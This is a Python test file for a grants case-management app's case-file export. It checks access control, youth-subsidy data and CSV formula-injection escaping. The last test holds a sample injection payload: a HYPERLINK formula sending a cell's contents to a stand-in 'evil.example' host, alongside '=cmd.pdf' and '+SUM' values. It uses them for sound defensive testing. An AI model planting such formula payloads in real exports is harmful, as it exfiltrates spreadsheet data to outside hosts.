"""Access to the file (aktindsigt): the secretariat exports a case's whole file as one
archive; nobody else can."""

from __future__ import annotations

import io
import zipfile

from grants.applications import operations
from grants.extensions import db
from tests.factories import make_application


def test_the_caseworker_exports_the_whole_file(world, client, auth):
    application = make_application(world.employee, world.fund, state="awaiting_decision")
    db.session.commit()
    operations.decide(application, world.caseworker, "grant", None, "")
    db.session.commit()
    auth.login(world.caseworker)
    response = client.get(f"/ansoegninger/{application.id}/sagsmappe.zip")
    assert response.status_code == 200 and response.mimetype == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    names = archive.namelist()
    assert "sag.json" in names and "journal.csv" in names
    letters = [n for n in names if n.startswith("breve/")]
    assert len(letters) == 1
    assert archive.read(letters[0]) == application.letters[0].pdf  # byte for byte
    journal = archive.read("journal.csv").decode("utf-8-sig")
    assert "grant" in journal and "letter_issued" in journal
    db.session.expire_all()
    assert application.journal[-1].action == "case_file_exported"


def test_others_cannot_export_a_file(world, client, auth):
    application = make_application(world.employee, world.fund, state="screening")
    db.session.commit()
    for person in (world.employee, world.manager, world.outsider, world.finance):
        auth.login(person)
        assert client.get(f"/ansoegninger/{application.id}/sagsmappe.zip").status_code == 403
    db.session.expire_all()
    assert all(e.action != "case_file_exported" for e in application.journal)


def test_the_file_and_the_own_data_of_a_youth_case_hold_its_youth_subsidy(world, client, auth):
    """The youth subsidy's data (its own table) is part of the case's file and of the
    applicant's own data, as facts of the case."""
    import json

    from grants.funds import kinds
    from tests.factories import make_fund

    fund = make_fund(code="ungdomsrejser", kind=kinds.YOUTH_TRIP.code, route="screening_decision")
    application = make_application(
        world.employee,
        fund,
        state="screening",
        participants_young=12,
        participants_leaders=2,
        birth_years=[2010, 2011],
        direct_contact="Fælles koncert.",
    )
    db.session.commit()
    wanted = (12, 2, [2010, 2011], "Fælles koncert.")

    def youth_facts(facts: dict) -> tuple:
        assert "application_id" not in facts
        return tuple(
            facts[name]
            for name in ("participants_young", "participants_leaders", "birth_years")
            + ("direct_contact",)
        )

    auth.login(world.caseworker)
    response = client.get(f"/ansoegninger/{application.id}/sagsmappe.zip")
    archive = zipfile.ZipFile(io.BytesIO(response.data))
    facts = json.loads(archive.read("sag.json"))
    assert facts["id"] == application.id and youth_facts(facts) == wanted

    auth.login(world.employee)
    archive = zipfile.ZipFile(io.BytesIO(client.get("/konto/mine-data.zip").data))
    (case,) = json.loads(archive.read("mine-data.json"))["cases"]
    assert case["id"] == application.id and youth_facts(case) == wanted


# What a spreadsheet takes for a formula when a cell starts with it (CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_no_text_typed_by_anyone_is_a_formula_in_the_files_spreadsheets(world, client, auth):
    """The case file's CSVs are opened in a spreadsheet by the secretariat and the archive:
    an applicant's message, a file's name or a comment that starts like a formula is kept
    as text ("'=…"), never run (the budgets' and payments' exports do the same)."""
    import csv

    from tests.messages.helpers import post_message

    application = make_application(world.employee, world.fund, state="screening")
    db.session.commit()
    auth.login(world.employee)
    attack = '=HYPERLINK("https://evil.example/?"&A1;"Klik")'
    response = post_message(
        client,
        application,
        body=attack,
        files=(io.BytesIO(b"%PDF-1.4\n%%EOF\n"), "=cmd.pdf"),
    )
    assert response.status_code == 302
    auth.login(world.caseworker)
    response = client.post(
        f"/ansoegninger/{application.id}/trin/request_information",
        data={"comment": "+SUM(1;2)"},
    )
    assert response.status_code in (200, 302)
    archive = zipfile.ZipFile(
        io.BytesIO(client.get(f"/ansoegninger/{application.id}/sagsmappe.zip").data)
    )
    cells = {}
    for name in ("beskeder.csv", "journal.csv", "dokumenter.csv"):
        rows = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
        cells[name] = [cell for row in rows for cell in row]
    for name, found in cells.items():
        assert not [c for c in found if c.startswith(FORMULA_STARTS)], name
    # Kept, as text.
    assert "'" + attack in cells["beskeder.csv"]
    assert "'=cmd.pdf" in cells["dokumenter.csv"]
    assert "'+SUM(1;2)" in cells["journal.csv"]
